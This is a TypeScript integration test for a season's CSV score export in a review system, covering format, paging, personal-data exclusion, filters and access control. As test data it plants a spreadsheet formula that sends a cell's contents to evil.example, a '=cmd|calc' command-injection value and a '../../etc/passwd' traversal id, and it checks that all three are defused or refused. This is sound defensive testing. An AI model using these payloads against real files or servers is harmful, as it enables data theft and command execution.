import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, it } from 'vitest';
import { LOCAL_REGION } from '../../../infra/local/local-settings.ts';
import { importCapabilityHandler, loadManifestStateMachines } from '../../../infra/local/step-functions/manifest-state-machines.ts';
import { startStepFunctionsServer, type StepFunctionsServerHandle } from '../../../infra/local/step-functions/sfn-server.ts';
import { runExportTask } from '../../../functions/exports/handler.ts';
import { wiring } from '../../../functions/exports/wiring.ts';
import { obedinenieNastavnikovTemplate } from '../../../shared/catalogue/domain/templates/obedinenie-nastavnikov.ts';
import { ENV } from '../../../shared/platform/config/env.ts';
import { baseProfile } from '../../support/profile-fixtures.ts';
import { applicantClaims, expertClaims, staffClaims, type Claims } from '../../support/claims.ts';
import { waitFor } from '../../support/wait-for.ts';
import { invokeHandler, type HandlerResponse } from '../../support/api-event.ts';

/**
 * Score exports end to end through the real handlers and the real ASL: this file runs its own local
 * Step Functions server whose workflow Lambda is functions/workflow/handler.ts with its real
 * dependencies, except that pages are 2 applications (so every shard of the season's index spans
 * pages) and the file's parts are 1 KiB (so it is joined in several steps; S3 itself asks 5 MiB of
 * every part but the last, which s3rver does not check).
 */
const PAGE_SIZE = 2;
const PART_BYTES = 1024;
const MARKER = 'ZZPLANTED';
/** A rubric name as staff might type it: Cyrillic, a comma, quotes, and a formula a spreadsheet would run. */
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Оценка, проекта")';
const CRITERIA = ['relevance', 'feasibility', 'novelty', 'readiness'] as const;

let server: StepFunctionsServerHandle | undefined;
let world: typeof import('./review-world.ts');
let callReviews: typeof import('../../support/call-reviews.ts').callReviews;
let documentsHandler: typeof import('../../../functions/documents/handler.ts').handler;

beforeAll(async () => {
  const machines = await loadManifestStateMachines(LOCAL_REGION, async (capability) =>
    capability === 'exports'
      ? (event: unknown) => runExportTask({ ...wiring(), pageSize: PAGE_SIZE, partBytes: PART_BYTES }, event)
      : importCapabilityHandler(capability),
  );
  server = await startStepFunctionsServer({ port: 0, machines });
  process.env[ENV.sfnEndpoint] = server.endpoint;
  world = await import('./review-world.ts');
  callReviews = (await import('../../support/call-reviews.ts')).callReviews;
  documentsHandler = (await import('../../../functions/documents/handler.ts')).handler;
});

afterAll(async () => {
  await server?.stop();
});

/** An RFC 4180 reader written apart from the exporter's writer, so a fault in one is not mirrored by the other. */
const parseCsv = (text: string): string[][] => {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index];
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(cell);
      cell = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      index += 1;
    } else cell += char;
  }
  assert.equal(cell + record.join(''), '', 'the file ends with CRLF');
  return records;
};

const scoresOf = (index: number, expert: number): Record<string, number> =>
  Object.fromEntries(CRITERIA.map((criterion, position) => [criterion, ((index + expert * 3 + position) % 9) + 1]));

const expertWithSub = async (season: import('./review-world.ts').ReviewSeason, sub: string): Promise<Claims> => {
  const expert: Claims = { ...expertClaims(sub), email: `${sub.replace(/^-/, 'x')}@example.org` };
  const saved = await callReviews({ method: 'PUT', route: '/me/expert-profile', claims: expert, body: world.expertProfile });
  assert.equal(saved.status, 201, JSON.stringify(saved.body));
  const placed = await callReviews({
    method: 'PUT',
    route: '/seasons/{seasonId}/experts/{expertId}',
    pathParameters: { seasonId: season.seasonId, expertId: sub },
    claims: season.staff,
    body: { capacity: 50 },
  });
  assert.equal(placed.status, 200, JSON.stringify(placed.body));
  return expert;
};

const startExport = (claims: Claims, seasonId: string, body: Record<string, unknown>): Promise<HandlerResponse> =>
  callReviews({ method: 'POST', route: '/seasons/{seasonId}/score-exports', pathParameters: { seasonId }, claims, body });

const readExport = (claims: Claims, seasonId: string, exportId: string): Promise<HandlerResponse> =>
  callReviews({ method: 'GET', route: '/seasons/{seasonId}/score-exports/{exportId}', pathParameters: { seasonId, exportId }, claims });

/** The link is the documents function's route: it holds the S3 client. */
const exportLink = (claims: Claims, seasonId: string, exportId: string): Promise<HandlerResponse> =>
  invokeHandler(documentsHandler, {
    method: 'GET',
    route: '/seasons/{seasonId}/score-exports/{exportId}/download-link',
    pathParameters: { seasonId, exportId },
    claims,
  });

/** Starts an export and waits until it is ready; the file's text as a browser would download it. */
const exportedFile = async (claims: Claims, seasonId: string, body: Record<string, unknown>) => {
  const started = await startExport(claims, seasonId, body);
  assert.equal(started.status, 202, JSON.stringify(started.body));
  const exportId = String(started.body['exportId']);
  const ready = await waitFor(
    async () => {
      const { body: view } = await readExport(claims, seasonId, exportId);
      assert.notEqual(view['status'], 'failed', JSON.stringify(view));
      return view['status'] === 'ready' ? view : undefined;
    },
    { timeoutMs: 60_000, description: 'the score export to be ready' },
  );
  const link = await exportLink(claims, seasonId, exportId);
  assert.equal(link.status, 200, JSON.stringify(link.body));
  const response = await fetch(String(link.body['url']));
  assert.equal(response.status, 200);
  const bytes = new Uint8Array(await response.arrayBuffer());
  return { exportId, view: ready, link: link.body, bytes, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes) };
};

describe('a CSV export of a season’s review scores', () => {
  let season: import('./review-world.ts').ReviewSeason;
  const applications: { applicationId: string; applicantId: string }[] = [];
  let experts: Claims[] = [];

  beforeAll(async () => {
    season = await world.reviewSeason({
      reviewRubrics: obedinenieNastavnikovTemplate.settings.reviewRubrics.map((rubric) => ({
        ...rubric,
        name: { ru: HOSTILE_NAME, en: 'Project evaluation' },
      })),
    });
    for (let index = 0; index < 26; index += 1) {
      applications.push(
        await world.applicationIn(season, {
          profile: {
            ...baseProfile(),
            name: { last: `${MARKER}Фамилия`, first: `${MARKER}Имя`, patronymic: `${MARKER}Отчество` },
            birthDate: '2001-02-03',
            contacts: { email: 'zzplanted@example.org', phone: '+79990001122' },
            workExperience: [{ organisation: `${MARKER} завод`, role: 'Инженер', publicService: false, from: '2022-01-01' }],
          },
        }),
      );
    }
    // The second expert's id begins with '-': a cell a spreadsheet would take for a formula.
    experts = [await expertWithSub(season, `expert-${randomUUID()}`), await expertWithSub(season, `-expert-${randomUUID()}`)];
    // 20 scored by both, 3 with one review in, 1 assigned and untouched, 2 never reviewed (no row).
    for (const [index, { applicationId }] of applications.slice(0, 24).entries()) {
      const reviewers = index < 20 ? experts : index < 23 ? experts.slice(0, 1) : experts.slice(1);
      for (const expert of reviewers) assert.equal((await world.assign(season, applicationId, expert)).status, 201);
      if (index >= 23) continue;
      for (const [position, expert] of reviewers.entries()) {
        const submitted = await world.submit(expert, applicationId, {
          scores: scoresOf(index, position),
          commentForApplicant: `${MARKER} комментарий заявителю`,
          commentForStaff: `${MARKER} комментарий сотрудникам`,
          version: 1,
        });
        assert.equal(submitted.status, 200, JSON.stringify(submitted.body));
      }
    }
  });

  it('holds every application and rubric with reviews, with the numbers the reviews store, and parses back', async () => {
    const { exportId, view, bytes, text, link } = await exportedFile(season.staff, season.seasonId, {});
    assert.deepEqual([...bytes.slice(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 with a BOM');
    const { DynamoDbScoreExportRuns } = await import('../../../shared/adapters/dynamodb/dynamodb-score-export-runs.ts');
    const { documentClient } = await import('../../../shared/adapters/dynamodb/document-client.ts');
    const run = await new DynamoDbScoreExportRuns(documentClient(), process.env[ENV.tableName]!).find(season.seasonId, exportId);
    assert.ok(
      run?.shards.some((shard) => shard.page > 1),
      'a shard spanned several pages',
    );
    assert.ok((run?.assembly?.uploaded.length ?? 0) > 1, 'the file was joined in several parts');
    assert.equal(run?.file?.bytes, bytes.length);
    assert.match(String(link['fileName']), /^scores-.+\.csv$/);
    const [header, ...rows] = parseCsv(text.slice(1));
    assert.ok(header !== undefined);
    assert.equal(view['applications'], 26, 'every application of the season was read');
    assert.equal(rows.length, 24);
    assert.equal(view['rows'], 24);
    const column = (name: string): number => {
      const index = header.indexOf(name);
      assert.ok(index >= 0, `the header names ${name}`);
      return index;
    };
    for (const row of rows) assert.equal(row.length, header.length, 'every row has every column');

    for (const { applicationId } of applications.slice(0, 24)) {
      const row = rows.find((candidate) => candidate[column('application_id')] === applicationId);
      assert.ok(row !== undefined, `a row for ${applicationId}`);
      const truth = await callReviews({
        method: 'GET',
        route: '/applications/{applicationId}/reviews',
        pathParameters: { applicationId },
        claims: season.staff,
      });
      const reviews = (truth.body['reviews'] as Record<string, unknown>[]).sort(
        (left, right) =>
          String(left['assignedAt']).localeCompare(String(right['assignedAt'])) ||
          String(left['expertId']).localeCompare(String(right['expertId'])),
      );
      const aggregate = (truth.body['aggregates'] as Record<string, unknown>[])[0];
      assert.equal(row[column('rubric_id')], world.RUBRIC);
      assert.equal(row[column('rubric_name')], `'${HOSTILE_NAME}`, 'Cyrillic, quotes and commas survive; the formula is defused');
      assert.equal(
        row[column('status')],
        aggregate === undefined ? 'in-review' : aggregate['extraReviewerWanted'] ? 'awaiting-extra-reviewer' : 'scored',
      );
      assert.equal(row[column('reviews_assigned')], String(reviews.length));
      assert.equal(row[column('reviews_submitted')], String(reviews.filter((review) => review['status'] === 'submitted').length));
      assert.equal(row[column('score')], aggregate === undefined ? '' : String(aggregate['score']));
      assert.equal(row[column('method')], aggregate === undefined ? '' : String(aggregate['method']));
      assert.equal(row[column('disagreement')], aggregate === undefined ? '' : String(aggregate['disagreement']));
      for (const [slot, review] of reviews.entries()) {
        const expertId = String(review['expertId']);
        assert.equal(row[column(`reviewer_${slot + 1}`)], expertId.startsWith('-') ? `'${expertId}` : expertId);
        assert.equal(row[column(`reviewer_${slot + 1}_status`)], review['status']);
        assert.equal(
          row[column(`reviewer_${slot + 1}_weighted_score`)],
          review['weightedScore'] === undefined ? '' : String(review['weightedScore']),
        );
        const scores = review['scores'] as Record<string, number>;
        for (const criterion of CRITERIA)
          assert.equal(row[column(`reviewer_${slot + 1}_${criterion}`)], scores[criterion] === undefined ? '' : String(scores[criterion]));
      }
      assert.equal(row[column(`reviewer_${reviews.length + 1}`)], '');
    }
    for (const { applicationId } of applications.slice(24))
      assert.ok(!rows.some((row) => row[column('application_id')] === applicationId), 'no row for an application without reviews');
  });

  it('holds no personal data: nothing of the applicants’ profiles, accounts or the experts’ comments', async () => {
    const { text } = await exportedFile(season.staff, season.seasonId, {});
    for (const personal of [MARKER, 'zzplanted', '+79990001122', '2001-02-03', 'Фамилия', ...applications.map((one) => one.applicantId)])
      assert.ok(!text.includes(personal), `the export holds ${personal}`);
  });

  it('filters by the stage applications are at now, and by rubric', async () => {
    const { text, view } = await exportedFile(season.staff, season.seasonId, { stage: 'mentoring-session', rubricId: world.RUBRIC });
    const [, ...rows] = parseCsv(text.slice(1));
    assert.equal(rows.length, 0);
    assert.equal(view['applications'], 0);
    const atStage = await exportedFile(season.staff, season.seasonId, { stage: world.STAGE });
    const [header, ...stageRows] = parseCsv(atStage.text.slice(1));
    const stageColumn = header!.indexOf('stage');
    assert.ok(stageRows.length > 0);
    for (const row of stageRows) assert.equal(row[stageColumn], world.STAGE);
  });

  it('refuses filters the programme does not have, and hostile input, with a problem naming the field', async () => {
    const cases: [Record<string, unknown>, number, string, string][] = [
      [{ rubricId: 'no-such-rubric' }, 422, 'unknown-rubric', 'body.rubricId'],
      [{ stage: 'no-such-stage' }, 422, 'unknown-stage', 'body.stage'],
      [{ stage: '=cmd|calc' }, 400, 'validation-failed', 'body.stage'],
      [{ rubricId: 'x'.repeat(500) }, 400, 'validation-failed', 'body.rubricId'],
      [{ columns: ['name', 'email'] }, 400, 'validation-failed', 'body'],
    ];
    for (const [body, status, code, field] of cases) {
      const refused = await startExport(season.staff, season.seasonId, body);
      assert.equal(refused.status, status, JSON.stringify(refused.body));
      assert.equal(refused.headers['content-type'], 'application/problem+json');
      assert.equal(refused.body['code'], code);
      const fields = (refused.body['errors'] as { field: string }[] | undefined) ?? [];
      assert.ok(
        fields.some((problem) => problem.field.startsWith(field)),
        JSON.stringify(refused.body),
      );
    }
    const badId = await readExport(season.staff, season.seasonId, '../../etc/passwd');
    assert.equal(badId.status, 400);
    assert.equal((await readExport(season.staff, season.seasonId, randomUUID())).status, 404);
  });

  it('is staff of the season’s programme’s alone: other staff, experts and applicants learn nothing of it', async () => {
    const { exportId } = await exportedFile(season.staff, season.seasonId, { rubricId: world.RUBRIC });
    const other = staffClaims('some-other-programme');
    for (const claims of [other, experts[0]!, applicantClaims(applications[0]!.applicantId)]) {
      const started = await startExport(claims, season.seasonId, {});
      const read = await readExport(claims, season.seasonId, exportId);
      const link = await exportLink(claims, season.seasonId, exportId);
      const expected = claims === other ? 404 : 403;
      for (const answer of [started, read, link]) {
        assert.equal(answer.status, expected, JSON.stringify(answer.body));
        assert.ok(!JSON.stringify(answer.body).includes('X-Amz-Signature'));
      }
    }
    // The same export id under another season the caller staffs finds nothing.
    const elsewhere = await world.reviewSeason();
    assert.equal((await readExport(elsewhere.staff, elsewhere.seasonId, exportId)).status, 404);
  });

  it('gives no link before the file is ready', async () => {
    const { DynamoDbScoreExportRuns } = await import('../../../shared/adapters/dynamodb/dynamodb-score-export-runs.ts');
    const { documentClient } = await import('../../../shared/adapters/dynamodb/document-client.ts');
    const runs = new DynamoDbScoreExportRuns(documentClient(), process.env[ENV.tableName]!);
    const at = new Date().toISOString();
    const exportId = randomUUID();
    await runs.create({
      id: exportId,
      seasonId: season.seasonId,
      programmeId: season.programmeId,
      filters: {},
      layout: { rubrics: [], criteria: [], reviewerSlots: 1 },
      status: 'running',
      requestedBy: 'staff-test',
      requestedAt: at,
      updatedAt: at,
      applications: 0,
      rows: 0,
      shards: [],
      expiresAt: Math.floor(Date.now() / 1000) + 3600,
    });
    const refused = await exportLink(season.staff, season.seasonId, exportId);
    assert.equal(refused.status, 409);
    assert.equal(refused.body['code'], 'score-export-not-ready');
  });
});
